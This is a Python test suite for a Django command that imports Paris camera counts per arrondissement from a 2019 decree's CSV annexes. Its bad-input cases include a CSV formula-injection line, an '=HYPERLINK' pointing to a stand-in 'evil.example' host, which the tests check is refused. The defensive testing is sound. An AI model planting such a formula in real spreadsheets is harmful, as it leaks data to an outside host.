"""The Paris camera list importer (arrêté n° 2019-00079, BOVP n° 9 of 1 February 2019):
counts per arrondissement, cited and dated, idempotent, all or nothing on bad input."""

from __future__ import annotations

from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.utils import translation

from contrechamp.places.models import Commune
from contrechamp.registry import imports
from contrechamp.registry.figures import commune_cameras, commune_figures
from contrechamp.registry.imports import (
    PARIS_BOVP_URL,
    ImportRefused,
    paris_cameras_import,
)
from contrechamp.registry.models import CameraCount
from contrechamp.registry.services import camera_count_create

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _english():
    # The messages are asserted in English here; the last test reads them in French.
    with translation.override("en"):
        yield


HEADER = (
    "Code postal;Numéro;Implantation;Rue croisement 1;Rue croisement 2;Rue croisement 3;"
    "Précision de l’implantation;Date de mise en service"
)


def annexe_lines(total: int = 1391) -> list[str]:
    """An annexe as the volunteer's CSV has it: the header, then one camera a line, spread
    over the 20 arrondissements (the 1st gets 70, the 20th 69 for 1,391 lines)."""
    rows = [HEADER]
    for i in range(total):
        code = 75001 + i % 20
        rows.append(
            f"{code};{10000 + i};Rue {i}, rue de Rivoli;Rue {i}; rue de Rivoli;;croisement;20/01/12"
        )
    return rows


def annexe(lines: list[str] | None = None, *, end: str = "\n") -> bytes:
    return (end.join(annexe_lines() if lines is None else lines) + end).encode("utf-8")


def with_line(number: int, text: str) -> bytes:
    """The annexe with its line `number` (1: the header) replaced."""
    lines = annexe_lines()
    lines[number - 1] = text
    return annexe(lines)


def imported() -> list[CameraCount]:
    return list(CameraCount.all_objects.filter(date="2019-02-01"))


def test_it_records_one_cited_count_per_arrondissement_dated_by_the_arrete():
    report = paris_cameras_import(data=annexe())
    assert report.annexe.number == 1 and report.added == 20
    counts = {c.commune.code: c for c in imported()}
    assert sorted(counts) == [f"751{n:02d}" for n in range(1, 21)]
    assert counts["75101"].count == 70 and counts["75120"].count == 69
    first = counts["75101"]
    assert first.state == "accepted" and "annexe 1" in first.perimeter
    citation = first.citations.get()
    assert citation.source.url == PARIS_BOVP_URL
    assert citation.source.published_on == "2019-02-01"
    assert citation.locator == "p. 491 (annexe 1)"
    assert "2019-00079" in citation.quote


def test_paris_counts_once_as_the_sum_of_its_arrondissements():
    # The demo's Paris count is 1,000 dated 2018: the 20 arrondissements of 2019 replace
    # it as the figure, and Paris is not also counted beside them.
    paris_cameras_import(data=annexe())
    paris = next(f for f in commune_cameras() if f.commune.code == "75056")
    assert (paris.count, paris.parts, paris.date) == (1391, 20, "2019-02-01")
    assert not [f for f in commune_cameras() if f.commune.code.startswith("751")]


def test_running_it_twice_changes_nothing():
    paris_cameras_import(data=annexe())
    before = sorted(CameraCount.all_objects.values_list("id", "count"))
    report = paris_cameras_import(data=annexe())
    assert report.added == 0 and {c.action for c in report.lines} == {"unchanged"}
    assert sorted(CameraCount.all_objects.values_list("id", "count")) == before


def test_a_later_count_and_a_corrected_count_are_not_overwritten():
    later = camera_count_create(
        commune_code="75101",
        count=120,
        date="2023-05",
        citations=[{"source": {"title": "Rapport", "url": "https://example.org/r"}}],
        author=None,
    )
    paris_cameras_import(data=annexe())
    # A reviewer corrects the imported figure of the 2nd; a new run keeps her number.
    corrected = CameraCount.all_objects.get(commune__code="75102", date="2019-02-01")
    CameraCount.all_objects.filter(id=corrected.id).update(count=71)
    report = paris_cameras_import(data=annexe())
    by_code = {line.commune.code: line for line in report.lines}
    assert by_code["75102"].action == "kept" and by_code["75102"].existing == 71
    assert CameraCount.all_objects.get(id=corrected.id).count == 71
    assert by_code["75101"].later == "2023-05"
    figure = commune_figures(Commune.objects.get(code="75101")).count
    assert (figure.count, figure.date) == (later.count, "2023-05")


def test_a_dry_run_writes_nothing_and_says_what_it_would_do(tmp_path, capsys):
    path = tmp_path / "annexe1.csv"
    path.write_bytes(annexe())
    call_command("registry", "import", "paris-cameras", str(path), "--dry-run")
    out = capsys.readouterr().out
    assert "75101 Paris 1er Arrondissement: would add 70 cameras." in out
    assert "Would add 20 camera counts dated 2019-02-01." in out
    assert imported() == []
    call_command("registry", "import", "paris-cameras", str(path))
    assert "Added 20 camera counts" in capsys.readouterr().out
    assert len(imported()) == 20


def test_annexe_2_is_told_apart_by_its_total_and_is_its_own_perimeter():
    report = paris_cameras_import(data=annexe(annexe_lines(890)))
    assert report.annexe.number == 2 and report.added == 20
    second = CameraCount.all_objects.get(commune__code="75101", perimeter__contains="annexe 2")
    assert second.count == 45 and second.citations.get().locator == "p. 505 (annexe 2)"
    assert commune_figures(Commune.objects.get(code="75101")).count.count == 45
    # The other annexe on the same date: refused whole, saying which one is recorded.
    with pytest.raises(ImportRefused) as refused:
        paris_cameras_import(data=annexe())
    assert "the counts of annexe 2 are already recorded for 2019-02-01" in str(refused.value)
    assert not CameraCount.all_objects.filter(perimeter__contains="annexe 1").exists()
    # Running annexe 2 again is still "unchanged", not refused.
    assert paris_cameras_import(data=annexe(annexe_lines(890))).added == 0


def test_windows_line_ends_a_byte_order_mark_and_a_straight_apostrophe_are_read():
    lines = annexe_lines()
    lines[0] = "\ufeff" + lines[0].replace("’", "'")
    assert paris_cameras_import(data=annexe(lines, end="\r\n")).added == 20


LATIN1 = annexe_lines()
LATIN1[699] = "75005;99999;Rue de l'Abbé Grégoire;;;;adresse précise;20/01/12"


@pytest.mark.parametrize(
    ("data", "line", "message"),
    [
        (
            with_line(500, '75001;1;=HYPERLINK("https://evil.example/?"&A1);;;;croisement;x'),
            500,
            "formula",
        ),
        (with_line(12, "75001;2;Rue;;;;croisement;@SUM(A1:A9)"), 12, "formula"),
        (
            "\n".join(LATIN1[:699]).encode() + b"\n" + "\n".join(LATIN1[699:]).encode("latin-1"),
            700,
            "not UTF-8",
        ),
        (annexe([line.replace(";", ",") for line in annexe_lines()]), 1, "separated by commas"),
        (annexe([line.replace(";", "\t") for line in annexe_lines()]), 1, "separated by tabs"),
        (with_line(1, HEADER.replace(";Numéro", "")), 1, "“Numéro”"),
        (with_line(40, "75001;123;Rue;;;;croisement"), 40, "7 cells where the header has 8"),
        (with_line(30, "75021;3;Rue;;;;croisement;x"), 30, "“75021” is not the postal code"),
        (with_line(31, "75000;3;Rue;;;;croisement;x"), 31, "“75000”"),
        (with_line(32, "92100;3;Rue;;;;croisement;x"), 32, "“92100”"),
        (with_line(33, "75101;3;Rue;;;;croisement;x"), 33, "“75101”"),
        (with_line(34, "75001;N/A;Rue;;;;croisement;x"), 34, "not a camera number"),
        (with_line(900, "75001;010000;Rue;;;;croisement;x"), 900, "already on line 2"),
        (with_line(800, "75001;5;" + "A" * 200_000 + ";;;;croisement;x"), 800, "200"),
        (b"", 1, "empty"),
        (b"\n\n", 1, "empty"),
        (annexe(annexe_lines(1390)), 1392, "lists 1390 cameras"),
        (annexe(annexe_lines(0)), 2, "lists 0 cameras"),
        (b"x" * (imports.MAX_BYTES + 1), 1, "larger than"),
    ],
    ids=[
        "formula",
        "at-formula",
        "latin1",
        "comma",
        "tab",
        "missing-column",
        "missing-cell",
        "75021",
        "75000",
        "92100",
        "insee-code",
        "number",
        "duplicate",
        "huge-line",
        "empty",
        "blank",
        "partial",
        "header-only",
        "too-large",
    ],
)
def test_bad_input_is_refused_whole_naming_the_line(data, line, message):
    with pytest.raises(ImportRefused) as e:
        paris_cameras_import(data=data)
    assert e.value.line == line
    assert str(e.value).startswith(f"Line {line}: ") and message in str(e.value)
    assert imported() == []


def test_the_command_names_the_file_and_the_line_and_imports_nothing(tmp_path):
    path = tmp_path / "annexe1.csv"
    path.write_bytes(with_line(500, "75001;1;=1+1;;;;croisement;x"))
    with pytest.raises(CommandError) as e:
        call_command("registry", "import", "paris-cameras", str(path))
    assert f"{path}: Line 500: " in str(e.value) and "Nothing was imported" in str(e.value)
    with pytest.raises(CommandError, match="No such file"):
        call_command("registry", "import", "paris-cameras", str(Path(tmp_path, "none.csv")))
    assert imported() == []


def test_a_failure_while_writing_leaves_no_count(monkeypatch):
    real = imports.camera_count_create

    def failing(**kwargs):
        if kwargs["commune_code"] == "75115":
            raise RuntimeError("disk full")
        return real(**kwargs)

    monkeypatch.setattr(imports, "camera_count_create", failing)
    with pytest.raises(RuntimeError):
        paris_cameras_import(data=annexe())
    assert imported() == []


def test_the_refusal_speaks_french():
    with translation.override("fr"), pytest.raises(ImportRefused) as e:
        paris_cameras_import(data=with_line(30, "75021;3;Rue;;;;croisement;x"))
    assert str(e.value).startswith("Ligne 30 : ")
    assert "n’est pas le code postal d’un arrondissement de Paris" in str(e.value)


def test_the_command_refuses_in_french(tmp_path):
    path = tmp_path / "annexe1.csv"
    path.write_bytes(b"")
    with translation.override("fr"), pytest.raises(CommandError) as e:
        call_command("registry", "import", "paris-cameras", str(path))
    assert str(e.value) == f"{path} : Ligne 1 : le fichier est vide. Rien n’a été importé."
